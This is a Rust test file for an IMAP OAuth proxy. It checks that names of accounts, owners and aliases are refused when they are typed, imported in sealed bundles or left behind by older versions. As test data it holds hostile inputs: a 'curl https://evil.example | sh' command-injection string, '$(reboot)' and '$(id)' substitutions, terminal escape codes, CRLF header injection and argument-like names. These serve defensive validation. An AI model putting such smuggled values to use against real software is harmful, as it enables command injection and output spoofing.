//! Names of accounts, owners and aliases: typed, imported, and stored by versions that did not check names.

#![allow(clippy::expect_used, clippy::panic, clippy::unwrap_used, reason = "a test aborts where it fails")]

mod common;

use common::{ALICE, BOB, Ran, Site, pseudo_terminal};
use imap_oauth_proxy::secret::bundle;
use sandbox::Sandbox;
use serde_json::{Value, json};
use std::io::Write as _;

const SHARED: &str = "shared@example.com";

/// Seals bundles as another installation, or an attacker, would with the key of `keys recipient`.
struct Bundles {
    recipient: String,
    good: Value,
}

impl Bundles {
    async fn new(site: &Site) -> Self {
        let recipient = site.run(&["keys", "recipient"]).await.out.trim().to_owned();
        let config = std::fs::read_to_string(&site.config).unwrap();
        let client_id = config.lines().find_map(|line| line.strip_prefix("client_id = ")).unwrap();
        let now = time::OffsetDateTime::now_utc().unix_timestamp();
        let good = json!({
            "account": ALICE,
            "aliases": ["alice", "CORP\\alice"],
            "provider": "sandbox",
            "client_id": client_id.trim_matches('"'),
            "owner": ALICE,
            "scopes": ["https://mail.google.com/", "openid", "email"],
            "refresh_token": site.sandbox.controls().grant(ALICE),
            "authorized_at": now - 86_400,
            "refreshed_at": now - 3_600,
            "refresh_expires_at": null,
        });
        Self { recipient, good }
    }

    fn seal(&self, change: &Value) -> String {
        let mut parcel = self.good.clone();
        for (field, value) in change.as_object().unwrap() {
            parcel[field] = value.clone();
        }
        bundle::seal_for_recipient(parcel.to_string().as_bytes(), &self.recipient).unwrap()
    }
}

/// Checks for one sentence with a cure, and without terminal control characters.
fn is_clean_refusal(ran: &Ran, said: &str) {
    assert!(ran.code == 1 && ran.err.contains(said), "{said}: {ran:?}");
    assert_eq!(ran.err.lines().filter(|line| line.starts_with("error: ")).count(), 1, "{ran:?}");
    assert!(ran.err.lines().all(|line| line.starts_with("error: ") || line.starts_with("hint: ")), "{ran:?}");
    assert!(ran.err.lines().any(|line| line.starts_with("hint: ")), "{ran:?}");
    assert!(!ran.err.chars().any(|c| c.is_control() && c != '\n'), "{ran:?}");
}

#[tokio::test]
async fn security_row_34_an_imported_bundle_is_judged_like_typed_input() {
    let site = Site::new().await;
    let bundles = Bundles::new(&site).await;
    let far = time::OffsetDateTime::now_utc().unix_timestamp() + 40 * 86_400;
    let many: Vec<String> = (0..101).map(|number| format!("alias{number}")).collect();
    for (field, value) in [
        ("account", json!("@corp.example")),
        ("account", json!("alice@example.com\u{1b}[2J")),
        ("account", json!("alice@example.com\nhint: run this")),
        ("account", json!("alice@example.com; reboot")),
        ("account", json!("--config")),
        ("account", json!("x".repeat(321))),
        ("account", json!("")),
        ("owner", json!("$(reboot)@example.com")),
        ("owner", json!("x@example.com --app; curl https://evil.example | sh")),
        ("owner", json!("-rf@example.com")),
        ("owner", json!("@example.com")),
        ("owner", json!("alice\u{202e}@example.com")),
        ("owner", json!("alice@example.com\u{9b}2J")),
        ("provider", json!("sand\u{1b}[2Jbox")),
        ("aliases", json!(["@example.com"])),
        ("aliases", json!(["ok", "al\u{1b}ice"])),
        ("aliases", json!(["al\rice"])),
        ("aliases", json!(["twice", "TWICE"])),
        ("aliases", json!([ALICE.to_uppercase()])),
        ("aliases", json!(["-x"])),
        ("aliases", json!(many)),
        ("scopes", json!(["https://mail.google.com/ evil"])),
        ("scopes", json!(["a\u{1b}b"])),
        ("scopes", json!([""])),
        ("scopes", json!(vec!["s"; 201])),
        ("refresh_token", json!("1//\r\nX: y")),
        ("refresh_token", json!("")),
        ("authorized_at", json!(253_402_300_799_i64)),
        ("authorized_at", json!(0)),
        ("authorized_at", json!(far)),
        ("refreshed_at", json!(253_402_300_799_i64)),
        ("refreshed_at", json!(far)),
        ("refresh_expires_at", json!(253_402_300_799_i64)),
        ("refresh_expires_at", json!(-62_135_596_800_i64)),
    ] {
        let ran =
            site.run_with(&["accounts", "import", "--yes"], &bundles.seal(&json!({field: value}))).await;
        is_clean_refusal(&ran, &format!("nothing was stored: {field}: "));
        assert_eq!(site.run(&["accounts", "list", "--json"]).await.json(), json!([]), "{field}: {value}");
    }
    let ran =
        site.run_with(&["accounts", "import"], &bundles.seal(&json!({"authorized_at": i64::MAX}))).await;
    assert!(ran.code == 1 && ran.err.contains("another version"), "{ran:?}");

    let theirs = json!({"aliases": ["alice", "ceo@example.com"]});
    let ran = site.run_with(&["accounts", "import"], &bundles.seal(&theirs)).await;
    is_clean_refusal(&ran, "ceo@example.com is not the address of alice@example.com");
    assert!(ran.err.contains("--yes"), "{ran:?}");
    assert_eq!(site.run(&["accounts", "list", "--json"]).await.json(), json!([]));
    let ran = site.run_with(&["accounts", "import", "--yes"], &bundles.seal(&theirs)).await;
    assert_eq!(ran.code, 0, "{ran:?}");
    let aliases = site.run(&["accounts", "list", "--json"]).await.json()[0]["aliases"].clone();
    assert_eq!(aliases, json!(["alice", "ceo@example.com"]));
}

#[tokio::test]
async fn security_row_34_a_bundle_takes_no_name_of_another_account() {
    let site = Site::new().await;
    site.authorize(BOB).await;
    assert_eq!(site.run(&["accounts", "alias", BOB, "bobby"]).await.code, 0);
    let bundles = Bundles::new(&site).await;
    let import = ["accounts", "import", "--yes", "--replace"];
    for (change, said) in [
        (json!({"aliases": [BOB]}), "is already a login name of bob@example.com"),
        (json!({"aliases": ["BOBBY"]}), "is already a login name of bob@example.com"),
        (json!({"account": "bobby"}), "bobby is an alias of bob@example.com here"),
    ] {
        let ran = site.run_with(&import, &bundles.seal(&change)).await;
        is_clean_refusal_without_hint(&ran, said);
        assert_eq!(site.tokens().await.0.len(), 1, "{change}");
    }
    let good = site.run_with(&["accounts", "import"], &bundles.seal(&json!({}))).await;
    assert_eq!(good.code, 0, "{good:?}");
}

fn is_clean_refusal_without_hint(ran: &Ran, said: &str) {
    assert!(ran.code == 1 && ran.err.contains(said), "{said}: {ran:?}");
}

#[tokio::test]
async fn security_row_34_typed_names_are_judged_before_anything_happens() {
    let site = Site::new().await;
    site.authorize(BOB).await;
    let refresh_token = site.sandbox.controls().grant(ALICE);
    for (words, said) in [
        (&["accounts", "alias", BOB, "@example.com"][..], "authorize --app"),
        (&["accounts", "alias", BOB, "@nowhere.example", "--yes"], "authorize --app"),
        (&["accounts", "alias", BOB, "b\u{200b}ob"], "invisible"),
        (&["accounts", "alias", BOB, "--", "-x"], "must not begin with -"),
        (&["authorize", ALICE, "--no-browser", "--yes", "--alias", "@example.com"], "authorize --app"),
        (&["authorize", ALICE, "--no-browser", "--owner", "x@y; reboot"], "the owner"),
        (&["authorize", "x@exa$(id)mple.com", "--provider", "sandbox", "--no-browser"], "the account"),
        (&["tokens", "import", "@example.com", "--provider", "sandbox"], "whole domain"),
        (&["tokens", "import", "a b@example.com", "--provider", "sandbox"], "the account"),
    ] {
        let ran = site.run_with(words, &refresh_token).await;
        is_clean_refusal(&ran, said);
        assert!(ran.out.is_empty(), "nobody consents in vain: {words:?}: {ran:?}");
    }
    let listed = site.run(&["accounts", "list", "--json"]).await.json();
    assert_eq!((listed.as_array().unwrap().len(), &listed[0]["aliases"]), (1, &json!([])));
}

#[tokio::test]
async fn security_row_34_an_alias_that_is_another_address_needs_yes() {
    let site = Site::with(Sandbox::builder().user(ALICE).user(BOB).shared_mailbox(SHARED, &[BOB])).await;
    site.authorize(ALICE).await;
    let other = ["accounts", "alias", ALICE, "ceo@other.example"];
    for alias in ["ceo@other.example", "ceo@example.com"] {
        let ran = site.run(&["accounts", "alias", ALICE, alias]).await;
        is_clean_refusal(&ran, &format!("{alias} is not the address of {ALICE}"));
        assert!(ran.err.contains("--yes"), "{ran:?}");
    }
    let ran = site.run(&["authorize", BOB, "--no-browser", "--alias", "ceo@other.example"]).await;
    assert!(ran.code == 1 && ran.out.is_empty() && ran.err.contains("--yes"), "{ran:?}");

    // On a terminal the command asks the person.
    for (typed, code) in [("n\n", 1), ("\n", 1), ("y\n", 0)] {
        let (mut keyboard, terminal) = pseudo_terminal();
        keyboard.write_all(typed.as_bytes()).unwrap();
        let output = site.command(&other).stdin(terminal).output().await.unwrap();
        let err = String::from_utf8_lossy(&output.stderr);
        assert_eq!(output.status.code(), Some(code), "{typed:?}: {err}");
        assert!(err.contains("Is that meant?"), "{err}");
    }
    assert_eq!(site.run(&["accounts", "unalias", ALICE, "CEO@other.example"]).await.code, 0);
    let ran = site.run(&[&other[..], &["--yes"]].concat()).await;
    assert_eq!(ran.code, 0, "{ran:?}");

    // A repeated alias is not reported again, and neither is a plain name or the account's own name.
    for alias in ["ceo@other.example", "alice", "CORP\\alice", "ALICE@example.com"] {
        assert_eq!(site.run(&["accounts", "alias", ALICE, alias]).await.code, 0, "{alias}");
    }
    // Bob consented for the shared mailbox, so his address is no alias of another account.
    let shared = site.authorize_with(&[SHARED, "--owner", BOB], Some(BOB)).await;
    assert_eq!(shared.code, 0, "{shared:?}");
    let ran = site.run(&["accounts", "alias", ALICE, BOB, "--yes"]).await;
    is_clean_refusal(&ran, "owner of the authorisation of shared@example.com");
    assert_eq!(site.run(&["accounts", "alias", SHARED, BOB, "--yes"]).await.code, 0);
}

#[tokio::test]
async fn an_alias_is_taken_away_and_nothing_else() {
    let site = Site::new().await;
    let settings = site.authorize(ALICE).await;
    assert_eq!(site.run(&["accounts", "alias", ALICE, "alice"]).await.code, 0);
    let serving = site.serve().await;
    let login = json!({"username": "alice", "password": settings["password"]});
    drop(serving.log_in(&login).await);
    assert_eq!(site.run(&["accounts", "unalias", ALICE, "ALICE"]).await.code, 0);
    let mut client = serving.client().await;
    assert!(!client.command(&common::login(&login)).await.is_ok());
    for (account, name) in [(ALICE, "alice"), (ALICE, ALICE), ("nobody", "alice")] {
        assert_eq!(site.run(&["accounts", "unalias", account, name]).await.code, 1, "{account} {name}");
    }
    drop(serving.log_in(&settings).await);
}

/// Stores a name that versions without the check accepted.
async fn plant_alias(site: &Site, account: &str, alias: &str) {
    let sql =
        "INSERT INTO login_names (folded, name, account_id) SELECT ?1, ?2, id FROM accounts WHERE name = ?3";
    assert_eq!(site.tamper(sql, &[&alias.to_lowercase(), alias, account]).await, 1);
}

/// Runs the commands that a check names, in a shell; returns their number.
async fn run_cures(site: &Site, checked: &Ran) -> usize {
    let steps = checked.json()["steps"].as_array().unwrap().clone();
    let mut ran = 0;
    for step in steps.iter().filter(|step| step["step"] == "name") {
        let text =
            format!("{} {}", step["detail"].as_str().unwrap(), step["cure"].as_str().unwrap_or_default());
        let at = text.find("imap-oauth-proxy accounts unalias").unwrap_or_else(|| panic!("{text}"));
        let command = text[at..].trim_end().trim_end_matches(" ends that");
        let binary = site.command(&[]);
        let words: Vec<_> = binary.as_std().get_args().map(|word| word.to_str().unwrap()).collect();
        let line = command.replacen(
            "imap-oauth-proxy",
            &format!("{} {}", env!("CARGO_BIN_EXE_imap-oauth-proxy"), words.join(" ")),
            1,
        );
        let mut shell = tokio::process::Command::new("bash");
        shell.args(["-c", &line]).env_remove("STATE_DIRECTORY").env("HOME", site.home.path());
        let output = shell.output().await.unwrap();
        assert!(output.status.success(), "{line}: {output:?}");
        ran += 1;
    }
    ran
}

#[tokio::test]
async fn security_row_34_names_of_before_go_on_and_check_names_them() {
    let site = Site::with(Sandbox::builder().user(ALICE).user(BOB).shared_mailbox(SHARED, &[ALICE])).await;
    let settings = site.authorize(ALICE).await;
    let odd = ["@example.com", "boss@other.example", "-odd", "it's\u{1b}[2J\nhere\u{202e}", "a\u{9b}b"];
    for alias in odd {
        plant_alias(&site, ALICE, alias).await;
    }
    let serving = site.serve().await;
    for name in ["boss@other.example", "-odd", SHARED] {
        let login = json!({"username": name, "password": settings["password"]});
        drop(serving.log_in(&login).await);
    }
    assert_eq!(site.authorize(ALICE).await["password"], Value::Null, "it can be authorised again");

    let checked = site.run(&["check", ALICE, "--json"]).await;
    assert_eq!(checked.code, 3, "a whole domain and hidden characters are for a person: {checked:?}");
    let shown = site.run(&["check", ALICE]).await;
    assert!(!shown.out.chars().any(|c| (c.is_control() && c != '\n') || c == '\u{202e}'), "{shown:?}");
    assert_eq!(run_cures(&site, &checked).await, odd.len(), "{checked:?}");
    assert_eq!(site.run(&["accounts", "list", "--json"]).await.json()[0]["aliases"], json!([]));
    assert_eq!(site.run(&["check", ALICE]).await.code, 0);
}

#[tokio::test]
async fn security_row_34_a_planted_account_is_named_by_check() {
    let site = Site::new().await;
    let settings = site.authorize(ALICE).await;
    site.authorize(BOB).await;
    let changed = [
        "UPDATE accounts SET name = '@corp.example' WHERE name = 'bob@example.com'",
        "UPDATE login_names SET name = '@corp.example', folded = '@corp.example' WHERE folded = 'bob@example.com'",
        "UPDATE grants SET owner = 'alice@example.com' || char(27) || '[2J; reboot', owner_folded = 'x' \
         WHERE owner = 'alice@example.com'",
    ];
    for sql in changed {
        assert_eq!(site.tamper(sql, &[]).await, 1, "{sql}");
    }
    let ran = site.run(&["check"]).await;
    assert_eq!(ran.code, 3, "{ran:?}");
    assert!(ran.out.contains("accounts remove @corp.example"), "{ran:?}");
    assert!(
        ran.out.contains("the owner of its authorisation \"alice@example.com\\u{1b}[2J; reboot\""),
        "{ran:?}"
    );
    assert!(ran.out.contains("accounts remove alice@example.com"), "{ran:?}");
    drop(site.serve().await.log_in(&settings).await);
    let ran = site.run(&["accounts", "remove", "@corp.example"]).await;
    assert_eq!(ran.code, 0, "{ran:?}");
}
